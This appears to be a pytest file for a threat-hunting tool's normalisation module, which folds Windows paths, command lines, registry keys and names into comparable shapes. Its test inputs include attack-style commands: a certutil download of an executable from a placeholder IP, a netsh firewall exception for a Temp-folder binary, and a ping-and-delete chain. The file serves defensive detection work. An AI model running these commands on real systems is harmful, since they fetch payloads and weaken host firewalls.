"""Folding turns volatile parts into placeholders, so shapes compare across users and days."""

from __future__ import annotations

import polars as pl
import pytest

from rathunt.baseline import fold


def _one(expr: pl.Expr, **columns: str | None) -> str:
    frame = pl.DataFrame(
        {name: [value] for name, value in columns.items()},
        schema={name: pl.String for name in columns},
    )
    return str(frame.select(expr.alias("out"))["out"][0])


@pytest.mark.parametrize(
    ("path", "shape"),
    [
        (
            "C:\\Users\\Alice\\AppData\\Local\\Temp\\server.exe",
            "c:\\users\\<user>\\appdata\\local\\temp\\server.exe",
        ),
        ("C:\\Users\\Public\\svchost.exe", "c:\\users\\public\\svchost.exe"),
        ("C:\\Users\\Default\\NTUSER.DAT", "c:\\users\\default\\ntuser.dat"),
        (
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\147.0.3912.72\\msedge.exe",
            "c:\\program files (x86)\\microsoft\\edge\\application\\<ver>\\msedge.exe",
        ),
        (
            "\\Device\\HarddiskVolume2\\Windows\\System32\\netsh.exe",
            "c:\\windows\\system32\\netsh.exe",
        ),
        (
            "C:\\ProgramData\\{0197231E-F943-69E5-A527-000000000800}\\setup.exe",
            "c:\\programdata\\<guid>\\setup.exe",
        ),
        ("C:\\Windows\\Temp\\tmp1A2F.tmp", "c:\\windows\\temp\\<tmp>"),
        ('"C:\\Windows\\explorer.exe"', "c:\\windows\\explorer.exe"),
        (None, ""),
    ],
)
def test_path_shape_folds_volatile_parts(path: str | None, shape: str) -> None:
    assert _one(fold.path_shape("p"), p=path) == shape


@pytest.mark.parametrize(
    ("command", "binary", "shape"),
    [
        (
            'netsh firewall add allowedprogram "C:\\Users\\bob\\AppData\\Local\\Temp\\server.exe" '
            '"server.exe" ENABLE',
            "netsh.exe",
            'netsh.exe firewall add allowedprogram "c:\\users\\<user>\\appdata\\local\\temp'
            '\\server.exe" "server.exe" enable',
        ),
        (
            '"C:\\Windows\\system32\\cmd.exe"   /c  ping 10.0.0.1 -n 2 & del x',
            "cmd.exe",
            "cmd.exe /c ping <ip> -n <n> & del x",
        ),
        (
            "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
            "{4A3D1E2B-1111-2222-3333-444455556666}",
            "rundll32.exe",
            "rundll32.exe c:\\windows\\system32\\shell32.dll,control_rundll <guid>",
        ),
        (
            "certutil -urlcache -f http://198.51.100.7:8080/a.exe a.exe",
            "certutil.exe",
            "certutil.exe -urlcache -f http://<ip>:<n>/a.exe a.exe",
        ),
        ("taskkill /pid 0x1fc /f", "taskkill.exe", "taskkill.exe /pid <n> /f"),
    ],
)
def test_command_shape_starts_with_the_binary_and_folds_arguments(
    command: str, binary: str, shape: str
) -> None:
    assert _one(fold.command_shape("c", "b"), c=command, b=binary) == shape


@pytest.mark.parametrize(
    ("image", "original", "command", "name"),
    [
        ("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "certutil -f", "certutil.exe"),
        ("C:\\Users\\x\\cu.exe", "CertUtil.exe", "cu.exe -f", "certutil.exe"),
        ("C:\\Users\\x\\cu.exe", "Other.exe", "cu.exe -f", "cu.exe"),
        ("", "", "netsh firewall add", "netsh.exe"),
        ("", "", '"C:\\Windows\\System32\\cmd.exe" /c', "cmd.exe"),
        ("", "", "", ""),
    ],
)
def test_binary_name_prefers_a_known_original_name(
    image: str, original: str, command: str, name: str
) -> None:
    assert _one(fold.binary_name("i", "o", "c"), i=image, o=original, c=command) == name


def test_registry_shape_folds_user_hives_to_hkcu() -> None:
    user = "HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows"
    kernel = "\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows"
    assert _one(fold.registry_shape("r"), r=user) == "hkcu\\software\\microsoft\\windows"
    assert _one(fold.registry_shape("r"), r=kernel) == "hkcu\\software\\microsoft\\windows"
    machine = "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft"
    assert _one(fold.registry_shape("r"), r=machine) == "hklm\\software\\microsoft"


def test_names_keep_hex_but_fold_guids() -> None:
    assert _one(fold.name_shape("n"), n="ecc7c8c51c0850c1ec247c7fd3602f20") == (
        "ecc7c8c51c0850c1ec247c7fd3602f20"
    )
    assert (
        _one(
            fold.name_shape("n"),
            n="GoogleUpdateTaskMachineUA{4A3D1E2B-1111-2222-3333-444455556666}",
        )
        == "googleupdatetaskmachineua<guid>"
    )


def test_text_is_cut_before_folding_so_work_is_bounded() -> None:
    hostile = "cmd.exe /c " + "a1" * 200_000
    shape = _one(fold.command_shape("c", "b"), c=hostile, b="cmd.exe")
    assert len(shape) <= fold.MAX_TEXT + len("cmd.exe ")
